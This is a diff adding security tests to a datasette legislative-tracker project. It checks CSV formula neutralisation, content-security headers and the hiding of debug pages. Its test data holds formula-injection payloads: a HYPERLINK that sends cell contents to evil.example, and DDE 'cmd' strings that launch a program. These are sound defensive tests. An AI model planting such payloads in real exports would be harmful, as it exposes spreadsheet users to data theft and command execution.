@@ -8,6 +8,13 @@ always have something to find.
 
 from __future__ import annotations
 
+import socket
+import subprocess
+import time
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -144,6 +151,34 @@ def build_site_db(path: Path) -> Path:
     set_position(database, "il-103rd-hb3773", "watch", "medium")
     database.close()
     return path
+
+
+@contextmanager
+def served(database: Path, *, public: bool) -> Iterator[str]:
+    """A face as `ailabor serve` runs it (a real datasette process) on a free loopback port; yields its URL."""
+    with socket.socket() as sock:
+        sock.bind(("127.0.0.1", 0))
+        port = sock.getsockname()[1]
+    process = subprocess.Popen(datasette_command(database, public=public, port=port),
+                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 30
+    while True:
+        try:
+            urllib.request.urlopen(f"{url}/-/versions.json", timeout=1).close()
+            break
+        except urllib.error.HTTPError:
+            break  # answering at all (a 401 behind the password) is up
+        except OSError:
+            if process.poll() is not None or time.monotonic() > deadline:
+                process.kill()
+                pytest.fail(f"datasette did not start: {process.stderr.read()}")
+            time.sleep(0.1)
+    try:
+        yield url
+    finally:
+        process.terminate()
+        process.wait(timeout=10)
 
 
 @pytest.fixture(scope="module")
@@ -312,3 +347,71 @@ def test_topic_lists_in_descriptions_are_the_served_databases_topics(db_path):
     save_topics(database, taxonomy)
     queries = metadata_for(db_path, public=True)["databases"]["tracker"]["queries"]
     assert "ai-in-casting" not in queries["bills_on_topic"]["description"]
+
+
+FORMULAS = {"ny-2025-s8420": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "us-119-hr1234": "+cmd|' /C calc'!A0",
+            "il-103rd-hb3773": "-2+3+cmd|' /C calc'!A0", "tx-89r-hb666": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "ca-20232024-sb1": "\t=1+1", "ca-20232024-sb1047": "\r=1+1\nand a second line"}
+
+
+@pytest.fixture(scope="module")
+def formula_db(tmp_path_factory) -> Path:
+    """The site's database with upstream titles that a spreadsheet would run as formulas."""
+    import sqlite3
+
+    path = build_site_db(tmp_path_factory.mktemp("formulas") / "tracker.db")
+    with sqlite3.connect(path) as conn:
+        conn.executemany("UPDATE bills SET title = ? WHERE id = ?", [(v, k) for k, v in FORMULAS.items()])
+    return path
+
+
+@pytest.mark.parametrize("query", ["/tracker/bills.csv?_col=title&_col=relevance_score",
+                                   "/tracker/bills.csv?_col=title&_col=relevance_score&_stream=on&_dl=1",
+                                   "/tracker/bills.csv?_col=title&_col=relevance_score&_size=1&_stream=on"])
+@pytest.mark.parametrize("public", [True, False])
+async def test_csv_cells_a_spreadsheet_would_run_begin_with_a_quote(formula_db, query, public):
+    import csv
+    import io
+
+    database = publish(formula_db, formula_db.parent / "public" / "tracker.db") if public else formula_db
+    response = await make_datasette(database, public=public).client.get(query)
+    assert response.status_code == 200
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text, newline=""))}
+    assert len(rows) == 7
+    for bill_id, title in FORMULAS.items():
+        assert rows[bill_id]["title"] == "'" + title
+    assert rows["ca-20232024-ab2602"]["title"].startswith("Contracts against public policy")
+    assert all(float(row["relevance_score"]) >= 0 for row in rows.values())
+
+
+async def test_a_query_csv_is_neutralised_too(formula_db):
+    response = await make_datasette(formula_db, public=False).client.get(
+        "/tracker.csv?sql=select+title,+-1+as+minus_one+from+bills+where+id='ny-2025-s8420'")
+    assert response.text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",-1'
+
+
+@pytest.mark.parametrize("public", [True, False])
+async def test_every_response_says_how_a_browser_may_use_it(site_snapshot, public):
+    ds = make_datasette(site_snapshot, public=public)
+    for path in ("/", "/tracker/bills", "/tracker/bills.json", "/tracker/bills.csv", "/static/site.css",
+                 "/tracker/bills/ca-20232024-ab2602", "/no-such-page", "/tracker/new_bills"):
+        headers = (await ds.client.get(path)).headers
+        policy = headers["content-security-policy"]
+        assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy, path
+        scripts = policy.split("script-src")[1].split(";")[0]
+        assert scripts.startswith(" 'self' 'sha256-") and "unsafe" not in scripts, path
+        assert headers["x-content-type-options"] == "nosniff"
+        assert headers["x-frame-options"] == "DENY"
+        assert headers.get_list("referrer-policy") in (["no-referrer"], ["strict-origin-when-cross-origin"]), path
+
+
+async def test_public_face_shows_no_file_paths_threads_or_debug_pages(site_snapshot):
+    ds = make_datasette(site_snapshot, public=True)
+    for path in ("/-/databases.json", "/-/databases", "/-/threads.json", "/-/threads", "/-/password-tool",
+                 "/-/login", "/-/allow-debug", "/-/messages", "/-/patterns"):
+        assert (await ds.client.get(path)).status_code == 404, path
+    folder = str(site_snapshot.parent.parent)
+    for path in ("/", "/-/metadata.json", "/-/settings.json", "/-/versions.json", "/-/plugins.json", "/tracker.json",
+                 "/tracker/bills.json", "/-/actor.json", "/tracker/no-such-table", "/-/search?q=replica"):
+        response = await ds.client.get(path)
+        assert folder not in response.text and "site-packages" not in response.text, path
